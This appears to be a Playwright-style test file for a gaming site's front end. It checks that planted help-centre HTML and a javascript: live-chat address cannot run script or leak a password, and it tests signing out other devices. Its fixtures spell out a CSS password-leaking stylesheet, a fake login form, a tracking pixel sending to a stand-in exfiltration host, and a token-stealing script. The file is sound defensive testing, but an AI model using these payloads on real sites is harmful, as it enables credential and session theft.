import { describe, expect, it } from 'vitest';
import { PATH } from '@kernel/paths';
import { logIn, productPerFile, skipAnnouncementPopups } from './harness';

const run = productPerFile({ language: 'EN' });

/** Where the planted payloads would send what they steal; the route below counts every request there. */
const EXFIL_HOST = 'exfil.invalid';

/** Every character a password of the catalogue may end with, one attribute selector each. */
const PASSWORD_CHARACTERS = [...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789@#$!%*?&'];
const passwordLeakStyle = PASSWORD_CHARACTERS.map(
  (character) => `input[name=password][value$="${character}"]{background-image:url(http://${EXFIL_HOST}/pw-${encodeURIComponent(character)})}`,
).join('');

/** A help-centre text an attacker planted: a leaking stylesheet, a fake login posting elsewhere and a tracking image. */
const HOSTILE_TERMS = `<p>Terms of play.</p><style>${passwordLeakStyle}</style>
<form action="http://${EXFIL_HOST}/steal" method="post"><input name="password" type="password"><button type="submit">Log in again</button></form>
<textarea name="notes"></textarea><select name="pick"><option>1</option></select>
<p style="background:url(http://${EXFIL_HOST}/inline)">Styled</p><img src="http://${EXFIL_HOST}/pixel.png" alt="tracker">`;

describe('server data cannot turn into script or a password leak (Chromium)', () => {
  it('refuses a javascript: live-chat address: no script runs on the site, the token stays unread, and the player is told the chat failed', async () => {
    const { page, context } = run;
    await context.route(`**${PATH.launchChat}*`, (route) =>
      route.fulfill({
        contentType: 'application/json',
        body: JSON.stringify({ success: true, value: { chatUrl: "javascript:localStorage.setItem('stolen', sessionStorage.getItem('token') || 'no token')" } }),
      }),
    );
    await page.goto(run.url);
    await logIn(page, 'demo_member', 'Demo@1234');
    await expect.poll(() => page.getByTestId('balance-value').textContent(), { timeout: 15_000 }).toMatch(/\d/);
    expect(await page.evaluate(() => sessionStorage.getItem('token'))).toBeTruthy();

    const popups: string[] = [];
    context.on('page', (popup) => popups.push(popup.url()));
    await page.getByTestId('side-bar-live-chat').click();
    // Give a script that would run time to write what it stole.
    await page.waitForTimeout(2_000);
    expect(await page.evaluate(() => localStorage.getItem('stolen'))).toBeNull();
    expect(popups.filter((url) => url.startsWith('javascript:'))).toEqual([]);
    await page.getByTestId('live-chat-failed').waitFor({ timeout: 15_000 });
  });

  it('shows planted help HTML without style, form, fields or remote images, so typing a password sends nothing anywhere', async () => {
    const { page, context } = run;
    const leaks: string[] = [];
    await context.route(`http://${EXFIL_HOST}/**`, (route) => {
      leaks.push(route.request().url());
      return route.fulfill({ status: 204 });
    });
    await context.route(`**${PATH.helpCenter}*`, async (route) => {
      const response = await route.fetch();
      const body = (await response.json()) as { success: boolean; value: { id: string; title: string; content: string }[] };
      const value = body.value.map((topic) => (topic.id === 'term' ? { ...topic, content: HOSTILE_TERMS } : topic));
      await route.fulfill({ response, json: { ...body, value } });
    });

    await page.goto(`${run.url}/help#term`);
    const terms = page.getByTestId('help-article-term');
    await terms.waitFor();
    await terms.getByText('Terms of play.').waitFor();
    expect(await terms.locator('style, form, input, button, textarea, select, [style]').count()).toBe(0);
    expect(await terms.locator('img').getAttribute('src')).toBeNull();
    expect(await page.locator(`form[action*="${EXFIL_HOST}"]`).count()).toBe(0);

    // The help text stays on the page behind the login popup while the password is typed.
    await page.getByTestId('header-login').click();
    const password = page.getByTestId('login-popup').locator('input[name=password]');
    await password.pressSequentially('Demo@1234D', { delay: 20 });
    await page.waitForTimeout(500);
    expect(leaks).toEqual([]);
  });
});

describe('signed-in devices (issue 26, Chromium)', () => {
  it('signs another browser out from the device list: its next action is refused and it is a visitor again, told why', { timeout: 150_000 }, async () => {
    const { page, browser, url } = run;
    // A second browser (its own session storage, so its own session) logged in as the same member.
    const elsewhere = await browser.newContext({ viewport: { width: 1440, height: 900 } });
    try {
      await skipAnnouncementPopups(elsewhere);
      await elsewhere.addInitScript(() => localStorage.setItem('lang', 'EN'));
      const other = await elsewhere.newPage();
      // One login after the other: each solves its proof-of-work challenge, seconds of CPU, and two at
      // once beside another busy test file took more than 15 s in CI.
      for (const tab of [other, page]) {
        await tab.goto(url);
        await logIn(tab, 'demo_member', 'Demo@1234');
        await tab.getByTestId('balance').waitFor({ timeout: 45_000 });
      }
      await page.goto(`${url}/member?page=securityCenter`);
      const devices = page.getByTestId('device-sessions');
      await expect.poll(() => devices.getByTestId('device-session').count(), { timeout: 8_000 }).toBe(2);
      expect(await devices.locator('[data-current=true]').getByTestId('device-session-current').count()).toBe(1);
      await devices.locator('[data-current=false]').getByTestId('device-session-sign-out').click();
      await page.getByTestId('device-sign-out-confirm').click();
      await page.locator('[data-testid=device-sessions-notice][role=status]').waitFor();
      expect(await devices.getByTestId('device-session').count()).toBe(1);

      // The other browser's next call is refused: back to the visitor header, with the session-ended message.
      await other.getByRole('button', { name: 'Refresh balance' }).click();
      await other.getByTestId('session-notice').getByText('You are not logged in, please login').waitFor({ timeout: 5_000 });
      await other.getByTestId('header-login').waitFor();
      expect(await other.getByTestId('balance').count()).toBe(0);
    } finally {
      await elsewhere.close();
    }
  });
});
